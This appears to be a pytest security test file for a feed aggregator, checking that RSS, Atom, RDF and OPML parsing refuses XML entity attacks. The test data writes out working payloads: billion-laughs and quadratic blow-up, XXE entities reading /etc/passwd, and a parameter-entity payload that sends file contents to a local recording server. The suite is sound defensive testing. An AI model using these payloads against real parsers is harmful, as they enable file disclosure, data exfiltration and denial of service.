"""XML attacks in feeds and in the OPML: entity expansion (billion laughs, quadratic
blow-up), external entities (local files, URLs on a local server that records every hit),
parameter entities and DTD retrieval. None expanded, none fetched, memory bounded."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from hostile import healthy_rss

from campplanet.exceptions import OPMLError
from campplanet.opml import lint_opml, read_opml
from campplanet.parse import ParseError, parse_feed
from httpfarm import Farm

PASSWD = Path("/etc/passwd").read_text().splitlines()[0]  # "root:x:0:0:..."


def laughs(levels: int = 10) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        lines.append(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">')
    return "\n".join(lines)


def attacks(spy: str) -> dict[str, tuple[str, str]]:
    """name -> (DTD internal subset, the entity reference to use in text)."""
    big = "A" * 10_000
    return {
        "billion-laughs": (laughs(10), "&lol9;"),
        "quadratic-blowup": (f'<!ENTITY a "{big}">', "&a;" * 200),
        "external-file": ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"),
        "external-file-public": (
            '<!ENTITY xxe PUBLIC "-//x//y" "file:///etc/passwd">',
            "&xxe;",
        ),
        "external-http": (f'<!ENTITY xxe SYSTEM "{spy}/entity">', "&xxe;"),
        "parameter-entity": (
            f'<!ENTITY % p SYSTEM "{spy}/param.dtd"> %p;',
            "&q;",
        ),
        "parameter-entity-file": (
            '<!ENTITY % f SYSTEM "file:///etc/passwd"> '
            f"<!ENTITY % w \"<!ENTITY &#x25; s SYSTEM '{spy}/exfil?%f;'>\"> %w; %s;",
            "x",
        ),
        "nested-parameter-laughs": (
            '<!ENTITY % a "lollollollollollollollollollol">'
            '<!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;%a;%a;">'
            '<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;%b;%b;">'
            '<!ENTITY c "%c;">',
            "&c;",
        ),
    }


def external_dtd(spy: str) -> str:
    return f'<!DOCTYPE rss SYSTEM "{spy}/remote.dtd">'


@pytest.fixture(scope="module")
def spy():
    """A server that records every request: nothing may ever ask it for anything."""
    with Farm(addresses=["127.0.0.1"]) as farm:
        farm.serve("/entity", b"SPYENTITY", content_type="text/plain")
        farm.serve("/param.dtd", b'<!ENTITY q "SPYPARAM">', content_type="application/xml-dtd")
        farm.serve("/remote.dtd", b'<!ENTITY r "SPYDTD">', content_type="application/xml-dtd")
        yield farm


NAMES = list(attacks("http://x"))
FORMATS = ("rss", "atom", "rdf")


def feed_with(kind: str, subset: str, ref: str, *, doctype: str | None = None) -> bytes:
    root = {"rss": "rss", "atom": "feed", "rdf": "rdf:RDF"}[kind]
    dtd = doctype or f"<!DOCTYPE {root} [\n{subset}\n]>"
    if kind == "rss":
        body = (
            f'<rss version="2.0"><channel><title>T {ref}</title><link>http://127.0.0.1:9/</link>'
            f"<item><title>I {ref}</title><guid>g1</guid><description>D {ref}</description>"
            "</item></channel></rss>"
        )
    elif kind == "atom":
        body = (
            f'<feed xmlns="http://www.w3.org/2005/Atom"><title>T {ref}</title><id>urn:x</id>'
            "<updated>2026-01-01T00:00:00Z</updated>"
            f'<entry><id>urn:e</id><title>I {ref}</title><content type="html">D {ref}</content>'
            "<updated>2026-01-01T00:00:00Z</updated></entry></feed>"
        )
    else:
        body = (
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
            'xmlns="http://purl.org/rss/1.0/"><channel rdf:about="x"><title>T '
            f'{ref}</title></channel><item rdf:about="http://127.0.0.1:9/1"><title>I {ref}'
            f"</title><description>D {ref}</description></item></rdf:RDF>"
        )
    return f'<?xml version="1.0"?>\n{dtd}\n{body}'.encode()


def _all_text(feed) -> str:
    parts = [feed.title or "", feed.link or "", feed.image or ""]
    for e in feed.entries:
        parts += [e.title, e.content, e.summary, e.author or "", *e.categories]
    return "\n".join(parts)


def assert_not_expanded(text: str) -> None:
    assert PASSWD not in text and "root:x:0" not in text
    assert "SPY" not in text
    assert "lollollollollollollollollollollollol" not in text
    assert "A" * 10_000 not in text  # the quadratic blow-up's entity, expanded


@pytest.mark.parametrize("kind", FORMATS)
@pytest.mark.parametrize("name", NAMES)
def test_feed_entities_not_expanded(name, kind, spy):
    subset, ref = attacks(spy.base())[name]
    before = spy.hits()
    try:
        feed = parse_feed(feed_with(kind, subset, ref), "http://127.0.0.1:9/feed")
    except ParseError as e:
        text = str(e)
    else:
        text = _all_text(feed)
        assert len(text) < 200_000
    assert_not_expanded(text)
    assert spy.hits() == before, [r.path for r in spy.seen]


@pytest.mark.parametrize("kind", FORMATS)
def test_feed_external_dtd_not_fetched(kind, spy):
    before = spy.hits()
    body = feed_with(kind, "", "&r;", doctype=external_dtd(spy.base()))
    try:
        feed = parse_feed(body, "http://127.0.0.1:9/feed")
        text = _all_text(feed)
    except ParseError as e:
        text = str(e)
    assert "SPYDTD" not in text
    assert spy.hits() == before


# --- the OPML ------------------------------------------------------------------------------


def opml_with(subset: str, ref: str, *, doctype: str | None = None) -> str:
    dtd = doctype or f"<!DOCTYPE opml [\n{subset}\n]>"
    return (
        f'<?xml version="1.0"?>\n{dtd}\n<opml version="2.0"><head><title>{ref}</title></head>'
        f'<body><outline text="{ref}" xmlUrl="http://127.0.0.1:9/feed"/></body></opml>\n'
    )


@pytest.mark.parametrize("name", NAMES)
def test_opml_entities_refused(name, spy, tmp_path):
    subset, ref = attacks(spy.base())[name]
    path = tmp_path / "feeds.opml"
    path.write_text(opml_with(subset, ref))
    before = spy.hits()
    with pytest.raises(OPMLError) as caught:
        read_opml(path, allow_private_networks=True)
    assert "DOCTYPE and entity declarations are not allowed" in str(caught.value)
    assert caught.value.line == 2
    problems = lint_opml(path, allow_private_networks=True)
    assert [p.severity for p in problems] == ["error"]
    assert_not_expanded(str(caught.value) + " ".join(map(str, problems)))
    assert spy.hits() == before


def test_opml_external_dtd_refused(spy, tmp_path):
    path = tmp_path / "feeds.opml"
    path.write_text(
        opml_with("", "&r;", doctype=f'<!DOCTYPE opml SYSTEM "{spy.base()}/remote.dtd">')
    )
    with pytest.raises(OPMLError, match="DOCTYPE"):
        read_opml(path, allow_private_networks=True)
    assert spy.hits() == 0


# --- memory, measured in a child process -----------------------------------------------------

_MEASURE = textwrap.dedent(
    """
    import json, resource, sys, time
    from pathlib import Path
    kind, path = sys.argv[1], sys.argv[2]
    data = Path(path).read_bytes()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.process_time()
    outcome = "ok"
    try:
        if kind == "feed":
            from campplanet.parse import parse_feed
            parse_feed(data, "http://127.0.0.1:9/feed")
        else:
            from campplanet.opml import read_opml
            read_opml(path, allow_private_networks=True)
    except Exception as e:
        outcome = type(e).__name__
    print(json.dumps({
        "outcome": outcome,
        "cpu_seconds": time.process_time() - started,
        "grew_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before,
    }))
    """
)


def measure_all(cases: dict[Path, str]) -> dict[Path, dict]:
    """Each case in its own child process, two at a time."""
    results: dict[Path, dict] = {}
    pending = list(cases.items())
    while pending:
        batch, pending = pending[:2], pending[2:]
        procs = {
            path: subprocess.Popen(
                [sys.executable, "-c", _MEASURE, kind, str(path)],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for path, kind in batch
        }
        for path, proc in procs.items():
            out, err = proc.communicate(timeout=60)
            assert proc.returncode == 0, err[-2000:]
            results[path] = json.loads(out.strip().splitlines()[-1])
    return results


def test_expansion_attacks_bounded_in_memory_and_time(tmp_path):
    """Every expansion attack, feed and OPML, in one child process each: each may grow the
    process by at most 50 MB and use at most 2 s of CPU time (not elapsed time, which a
    loaded machine stretches); a 15 KB quadratic blow-up expands to 5 MB per field if
    entities are expanded."""
    cases = {}
    heavy = {
        **attacks("http://127.0.0.1:9"),
        "quadratic-blowup": (f'<!ENTITY a "{"A" * 10_000}">', "&a;" * 1000),
    }
    for name in ("billion-laughs", "quadratic-blowup", "nested-parameter-laughs"):
        subset, ref = heavy[name]
        for kind in ("rss",):  # every format is checked for expansion above; memory once
            p = tmp_path / f"{name}-{kind}.xml"
            p.write_bytes(feed_with(kind, subset, ref))
            cases[p] = "feed"
        p = tmp_path / f"{name}.opml"
        p.write_text(opml_with(subset, ref))
        cases[p] = "opml"
    for path, result in measure_all(cases).items():
        kind = cases[path]
        assert result["grew_kb"] < 50_000, (path.name, result)
        assert result["cpu_seconds"] < 2, (path.name, result)
        if kind == "opml":
            assert result["outcome"] == "OPMLError", (path.name, result)


def test_entity_feed_through_the_cli_does_not_stop_the_others(tmp_path, spy):
    """A feed with an XXE next to a healthy feed: the run completes, nothing fetched."""
    from hostile import run_planet_inprocess, write_planet

    from planetkit import opml_document, outline

    subset, ref = attacks(spy.base())["external-http"]
    bad = spy.serve("/xxe.xml", feed_with("rss", subset, ref))
    good = spy.serve("/good.xml", healthy_rss("good"))
    write_planet(tmp_path, opml_document([outline("XXE", bad), outline("Good", good)]))
    run = run_planet_inprocess(tmp_path)
    assert run.code == 0, run.output
    assert spy.hits("/entity") == 0
    assert len(run.entry_rows(good)) == 3
    for row in run.entry_rows(bad):
        assert "SPY" not in row["title"] + row["content"]
    site = "".join(p.read_text() for p in run.public.rglob("*.html"))
    assert "SPYENTITY" not in site and PASSWD not in site
